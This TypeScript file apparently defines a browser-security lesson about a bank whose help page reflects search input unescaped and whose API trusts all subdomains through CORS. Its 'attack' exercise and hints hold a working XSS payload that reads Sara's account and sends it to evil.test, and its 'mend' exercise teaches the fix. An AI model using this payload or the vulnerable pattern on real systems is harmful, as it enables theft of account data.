import { documentOf } from '@/lib/document/document-of.ts'
import { attackLab, getsNothing } from '@/lib/lessons/attack-lab.ts'
import { READ } from './no-origin.ts'

export const API = 'https://api.bank.example'
export const HELP = 'https://help.bank.example'
const EVIL = 'https://evil.test'

export const EVERY_SUBDOMAIN = '/^https:\\/\\/[a-z]+\\.bank\\.example$/'
export const TWO_PAGES = '["https://www.bank.example", "https://pay.bank.example"]'
export const REPEATS = 'res.send("<h1>Help</h1><p>You searched for " + req.query.q + ".</p>")'
export const ESCAPES = 'res.send("<h1>Help</h1><p>You searched for " + escape(req.query.q) + ".</p>")'

/** The page of the bank that puts what it is given into its HTML. */
export const helpServer = (answer: string) => ({
  dialect: 'express' as const,
  text: `import express from "express"

const app = express()

// each of these characters as HTML writes it, so that it is only text
function escape(text) {
  return String(text).replace(/[&<>"']/g, (sign) => "&#" + sign.charCodeAt(0) + ";")
}

app.get("/search", (req, res) => {
  ${answer}
})

app.listen(443)
`,
})

/** The frame of the attack, with what its script does before it sends something. */
const injected = (steps: string) => `const script = \`<script type="module">
${steps}</script>\`;
const frame = document.createElement("iframe");
frame.src = "https://help.bank.example/search?q=" + encodeURIComponent(script);
document.body.append(frame);
`
export const ATTACK = injected(`  const response = await fetch("https://api.bank.example/account", {
    credentials: "include",
  });
  const text = await response.text();
  await fetch("https://evil.test/take?" + encodeURIComponent(text), {
    mode: "no-cors",
  });
`)
const SEARCH = `const response = await fetch("/search?q=" + encodeURIComponent("a lost card"));
console.log(await response.text());
`

/** A list of origins is as good as the worst page that is on it. */
export const trustedPage = attackLab({
  start: documentOf({
    page: `${EVIL}/`,
    stranger: { wants: 'Sara has 1204', whose: 'Sara' },
    code: `const frame = document.createElement("iframe");
frame.src = "https://help.bank.example/search?q=card";
document.body.append(frame);
`,
    servers: {
      [API]: {
        dialect: 'express',
        text: `import express from "express"
import cors from "cors"

const app = express()

app.use(cors({ origin: ${EVERY_SUBDOMAIN}, credentials: true }))

app.get("/account", (req, res) => {
  if (!req.get("cookie")?.includes("session=sara")) return res.status(401).send("Log in first.")
  res.send("Sara has 1204 euros.")
})

app.listen(443)
`,
      },
      [HELP]: helpServer(REPEATS),
      // It takes what comes, and allows nobody to read: nobody has to.
      [EVIL]: 'GET /take\n204 No Content\n\nPOST /take\n204 No Content\n',
    },
    cookies: { [API]: 'session=sara' },
  }),
  attack: {
    id: 'attack-a-trusted-page',
    title: 'Attack: a page that is trusted',
    task: 'Every subdomain of bank.example may read, and you cannot have one. But help.bank.example shows what somebody searches for. Let it read Sara’s account and send it to your server: https://evil.test/take?…',
    hints: [
      'Look at /search in the server of help.bank.example. What happens when q contains HTML?',
      'Open this page in a frame, with a script in q. The script runs on help.bank.example, so it may read. encodeURIComponent(script) makes the script fit into an address.',
      'In the script: read the account with credentials: "include", then fetch("https://evil.test/take?" + encodeURIComponent(text), { mode: "no-cors" }).',
    ],
    says: 'A script on a trusted page reads Sara’s data, and sends it to you.',
    code: ATTACK,
  },
  mend: {
    id: 'mend-a-trusted-page',
    title: 'Mend: a page that is trusted',
    task: 'Two servers have a fault here. help.bank.example must show what somebody searches for, and not run it. The API must trust only the pages that need the account: https://www.bank.example and https://pay.bank.example. Mend both.',
    hints: [
      'Which pages need the account? Name them in the API.',
      'The help page has a function escape. Where does the text of a stranger get into the HTML?',
      `origin: ["https://www.bank.example", "https://pay.bank.example"] in the API, and escape(req.query.q) in the help page.`,
    ],
    servers: { [API]: [[EVERY_SUBDOMAIN, TWO_PAGES]], [HELP]: [[REPEATS, ESCAPES]] },
    tooLoose: { [HELP]: [[REPEATS, ESCAPES]] },
    probes: [
      ...['www', 'pay'].map((name) => ({
        says: `https://${name}.bank.example reads the account.`,
        page: { url: `https://${name}.bank.example/` },
        code: READ,
        expect: { outcome: 'readable' as const, contains: 'Sara has 1204' },
      })),
      {
        says: 'https://help.bank.example shows what somebody searches for.',
        page: { url: `${HELP}/` },
        code: SEARCH,
        expect: { outcome: 'readable', status: 200, contains: 'a lost card' },
      },
      {
        says: 'It does not run it.',
        page: { url: `${EVIL}/` },
        code: `${injected('  await fetch("https://evil.test/take?here", { mode: "no-cors" });\n')}location.href = frame.src;\n`,
        expect: { runsOthers: false },
      },
      getsNothing('https://help.bank.example itself gets no account.', { url: `${HELP}/` }, { code: READ }),
      getsNothing('Nor does a subdomain that nobody thinks of.', { url: 'https://old.bank.example/' }, { code: READ }),
      getsNothing('Nor does https://evilbank.example.', { url: 'https://evilbank.example/' }, { code: READ }),
      getsNothing(
        'Nor does https://www.bank.example.evil.test.',
        { url: 'https://www.bank.example.evil.test/' },
        { code: READ },
      ),
      getsNothing('Nor does http://www.bank.example.', { url: 'http://www.bank.example/' }, { code: READ }),
    ],
  },
})
